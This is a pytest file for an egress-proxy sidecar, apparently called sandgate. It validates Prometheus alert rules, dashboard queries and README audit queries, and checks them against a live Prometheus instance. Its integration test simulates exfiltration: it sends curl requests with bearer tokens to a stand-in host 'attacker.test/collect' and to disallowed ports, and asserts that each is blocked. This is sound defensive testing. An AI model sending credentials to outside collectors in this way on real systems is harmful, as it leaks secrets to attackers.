"""The audit pack: recording rules and alerts (promtool check + unit tests for every alert, firing
and not, with series that start absent as a real pod's do), the Grafana dashboard's queries, and a
real Prometheus scraping a real sidecar that answers the README's audit questions, verbatim, with
the numbers the test's traffic produced."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from proxy.metrics import NAMES
from tests.conftest import GITHUB, OPENAI, needs_root
from tests.support.clients import curl
from tests.support.listeners import ContactRecorder
from tests.support.proxyproc import ProxyProcess, free_port

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "charts" / "sandgate" / "files" / "prometheus-rules.yaml"
DASHBOARD = ROOT / "charts" / "sandgate" / "files" / "dashboard.json"
RULES_TEST = Path(__file__).parent / "rules_test.yaml"
PROMTOOL = shutil.which("promtool")
needs_promtool = pytest.mark.skipif(
    PROMTOOL is None, reason="promtool (Debian package prometheus) is installed by .ci/run"
)


def readme_queries() -> dict[str, str]:
    """The README's audit questions: the first ```promql block, each comment (the question) with
    the query under it, joined into one line."""
    block = (ROOT / "README.md").read_text().split("```promql\n", 1)[1].split("```", 1)[0]
    queries: dict[str, str] = {}
    question: list[str] = []
    query: list[str] = []
    for line in [*block.splitlines(), ""]:
        if line.startswith("#") or not line.strip():
            if query:
                queries[" ".join(question)] = " ".join(query)
                question, query = [], []
            if line.startswith("#"):
                question.append(line.lstrip("# ").strip())
            continue
        query.append(line.strip())
    return queries


def readme_query(start: str) -> str:
    [query] = [q for question, q in readme_queries().items() if question.startswith(start)]
    return query


def promtool_check_exprs(tmp_path: Path, name: str, exprs: list[str]) -> None:
    rules = {"groups": [{"name": name, "rules": [{"record": f"{name}:q{i}", "expr": e} for i, e in enumerate(exprs)]}]}
    path = tmp_path / f"{name}.yaml"
    path.write_text(yaml.safe_dump(rules))
    out = subprocess.run([str(PROMTOOL), "check", "rules", str(path)], capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stdout + out.stderr


def rules() -> list[dict[str, Any]]:
    return [r for g in yaml.safe_load(RULES.read_text())["groups"] for r in g["rules"]]


def dashboard_exprs() -> list[str]:
    return [t["expr"] for p in json.loads(DASHBOARD.read_text())["panels"] for t in p["targets"]]


@needs_promtool
def test_rules_pass_promtool_check() -> None:
    out = subprocess.run([str(PROMTOOL), "check", "rules", str(RULES)], capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stdout + out.stderr


@needs_promtool
def test_every_alert_and_recording_rule_has_passing_unit_tests() -> None:
    spec = yaml.safe_load(RULES_TEST.read_text())
    alert_tests = [t for case in spec["tests"] for t in case.get("alert_rule_test", [])]
    tested_exprs = {t["expr"] for case in spec["tests"] for t in case.get("promql_expr_test", [])}
    alerts = {r["alert"] for r in rules() if "alert" in r}
    for alert in alerts:
        cases = [t for t in alert_tests if t["alertname"] == alert]
        assert any(t["exp_alerts"] for t in cases) and any(not t["exp_alerts"] for t in cases), (
            f"{alert}: needs a firing and a quiet case"
        )
    assert {t["alertname"] for t in alert_tests} == alerts
    assert {r["record"] for r in rules() if "record" in r} <= tested_exprs
    out = subprocess.run(
        [str(PROMTOOL), "test", "rules", RULES_TEST.name], cwd=RULES_TEST.parent, capture_output=True, text=True,
        check=False,
    )  # fmt: skip
    assert out.returncode == 0 and "SUCCESS" in out.stdout, out.stdout + out.stderr


def test_unit_test_series_start_absent_as_a_real_pods_do() -> None:
    """A series that starts at 0 in a test hides what a real pod shows Prometheus: nothing, then
    its first scrape (0, or already 1 when the event came first). That is how a counter appearing
    at 1 kept the exfiltration alert silent while its tests passed."""
    spec = yaml.safe_load(RULES_TEST.read_text())
    series = [s for case in spec["tests"] for s in case["input_series"]]
    assert series
    assert [s["series"] for s in series if not s["values"].startswith("_ ")] == []


def test_every_metric_the_pack_and_readme_name_exists() -> None:
    """A misspelt metric parses and matches nothing, silently: every name in the rules, the dashboard
    and the README's queries is one the sidecar or the webhook exports."""
    text = RULES.read_text() + "\n".join(dashboard_exprs()) + "\n".join(readme_queries().values())
    used = {re.sub(r"_(bucket|sum|count)$", "", m) for m in re.findall(r"\bsandgate_[a-z0-9_]+", text)}
    assert used and used <= set(NAMES), used - set(NAMES)


@needs_promtool
def test_the_dashboard_is_valid_json_and_every_query_parses(tmp_path: Path) -> None:
    exprs = dashboard_exprs()
    assert len(exprs) >= 20
    promtool_check_exprs(tmp_path, "dashboard", exprs)
    panels = json.loads(DASHBOARD.read_text())["panels"]
    assert len({p["id"] for p in panels}) == len(panels)
    assert len({(p["gridPos"]["x"], p["gridPos"]["y"]) for p in panels}) == len(panels), "panels overlap"


@needs_promtool
def test_the_readme_audit_queries_parse(tmp_path: Path) -> None:
    queries = readme_queries()
    assert len(queries) >= 6
    promtool_check_exprs(tmp_path, "readme", list(queries.values()))
    # Each question is answered over a window, only where the answer is not zero.
    counters = [q for q in queries.values() if "_total" in q]
    assert counters and all("increase(" in q for q in counters), counters


class Prometheus:
    def __init__(self, workdir: Path, target: str, labels: dict[str, str]) -> None:
        self.port = free_port()
        config = {"global": {"scrape_interval": "1s", "evaluation_interval": "1s"},
                  "scrape_configs": [{"job_name": "sandgate-sidecars", "static_configs": [{"targets": [target], "labels": labels}]}]}  # fmt: skip
        (workdir / "prometheus.yml").write_text(yaml.safe_dump(config))
        self.log = (workdir / "prometheus.log").open("wb")
        self.proc = subprocess.Popen(
            [shutil.which("prometheus") or "prometheus", f"--config.file={workdir / 'prometheus.yml'}",
             f"--storage.tsdb.path={workdir / 'data'}", f"--web.listen-address=127.0.0.1:{self.port}"],
            stdout=self.log, stderr=self.log,
        )  # fmt: skip

    def query(self, q: str, at: float | None = None) -> list[dict[str, Any]]:
        params = {"query": q} | ({"time": f"{at:.3f}"} if at is not None else {})
        url = f"http://127.0.0.1:{self.port}/api/v1/query?" + urllib.parse.urlencode(params)
        with urllib.request.urlopen(url, timeout=5) as r:
            return list(json.load(r)["data"]["result"])

    def answers(self, q: str, by: tuple[str, ...], at: float) -> dict[tuple[str, ...], float]:
        return {tuple(r["metric"].get(k, "") for k in by): float(r["value"][1]) for r in self.query(q, at)}

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)
        self.log.close()


@pytest.fixture
def prometheus_for(tmp_path: Path) -> Iterator[Callable[[ProxyProcess], Prometheus]]:
    started: list[Prometheus] = []

    def start(proxy: ProxyProcess) -> Prometheus:
        p = Prometheus(tmp_path, f"127.0.0.1:{proxy.metrics_port}", {"namespace": "sandbox-a", "pod": "agent-1"})
        started.append(p)
        return p

    yield start
    for p in started:
        p.stop()


def poll(cond: Callable[[], bool], timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            if cond():
                return
        except OSError:
            pass
        if time.monotonic() > deadline:
            pytest.fail("Prometheus did not answer as expected in time")
        time.sleep(0.5)


@needs_root
@pytest.mark.skipif(shutil.which("prometheus") is None, reason="prometheus (Debian) is installed by .ci/run")
def test_a_real_prometheus_answers_the_readme_audit_queries(
    make_proxy: Callable[..., ProxyProcess], prometheus_for: Callable[[ProxyProcess], Prometheus],
    attacker: ContactRecorder,
) -> None:  # fmt: skip
    from tests.conftest import MAIN_POLICY

    proxy = make_proxy(MAIN_POLICY)
    prom = prometheus_for(proxy)
    # The sidecar's series exist at 0 from its start, so increase() sees the first event. (An event
    # before Prometheus's first scrape of a pod is the one increase() cannot see: the README says so.)
    attempt = 'sandgate_secret_blocked_total{secret="openai",reason="host_not_allowed"}'
    poll(lambda: [float(r["value"][1]) for r in prom.query(attempt)] == [0.0])

    bearer = f"Authorization: Bearer {OPENAI.placeholder}"
    for _ in range(3):
        reply = curl(proxy.url, proxy.ca, "https://api.openai.com/v1/chat/completions", "-H", bearer, "-d", "{}")
        assert reply.status == 200
    for _ in range(2):
        assert curl(proxy.url, proxy.ca, "https://echo.example.com/collect", "-H", bearer).reason == "secret_not_bound"
    # Toward a host outside the allowlist, and a port outside it: refused, and attributed to the secret.
    assert curl(proxy.url, proxy.ca, "https://attacker.test/collect", "-H", bearer).reason == "host_not_allowed"
    github = f"Authorization: Bearer {GITHUB.placeholder}"
    assert curl(proxy.url, proxy.ca, "https://echo.example.com:8443/", "-H", github).reason == "port_not_allowed"
    assert curl(proxy.url, proxy.ca, "https://attacker.test/").reason == "host_not_allowed"  # no secret in it
    # An agent holding a real value (it never should) cannot send it anywhere.
    real = f"X-Token: {OPENAI.real}"
    assert curl(proxy.url, proxy.ca, "https://echo.example.com/", "-H", real).reason == "secret_value_outbound"
    assert attacker.count == 0

    # Wait for a scrape after the traffic, then ask at that scrape's time: increase() over a series
    # that started at 0 and ends at the query time is exact (no extrapolation at either end).
    denied = 'sum(sandgate_egress_requests_total{decision="denied"})'
    poll(lambda: [float(r["value"][1]) for r in prom.query(denied)] == [6.0])
    [last] = prom.query("max(timestamp(sandgate_build_info))")  # one scrape: one timestamp for all series
    at = float(last["value"][1])

    used = prom.answers(readme_query("Which secrets were used"), ("namespace", "pod", "secret", "host"), at)
    assert used == {("sandbox-a", "agent-1", "openai", "api.openai.com"): 3}
    tried = prom.answers(readme_query("Who tried to exfiltrate"), ("namespace", "pod", "secret", "reason"), at)
    assert tried == {
        ("sandbox-a", "agent-1", "openai", "secret_not_bound"): 2,
        ("sandbox-a", "agent-1", "openai", "host_not_allowed"): 1,
        ("sandbox-a", "agent-1", "github", "port_not_allowed"): 1,
    }
    holding = prom.answers(readme_query("Which agents hold a real"), ("namespace", "pod", "secret"), at)
    assert holding == {("sandbox-a", "agent-1", "openai"): 1}
    denials = prom.answers(readme_query("What is being denied"), ("namespace", "reason"), at)
    assert denials == {
        ("sandbox-a", "secret_not_bound"): 2,
        ("sandbox-a", "host_not_allowed"): 2,
        ("sandbox-a", "port_not_allowed"): 1,
        ("sandbox-a", "secret_value_outbound"): 1,
    }
    # Enforce mode reports nothing: the zeros every series starts with are not answers.
    assert prom.answers(readme_query("In report mode"), ("namespace", "reason"), at) == {}
    policies = prom.answers(readme_query("Which policy"), ("namespace", "pod", "policy", "mode", "sha256"), at)
    sha = hashlib.sha256(proxy.policy.read_bytes()).hexdigest()
    assert policies == {("sandbox-a", "agent-1", "test-main", "enforce", sha): 1}
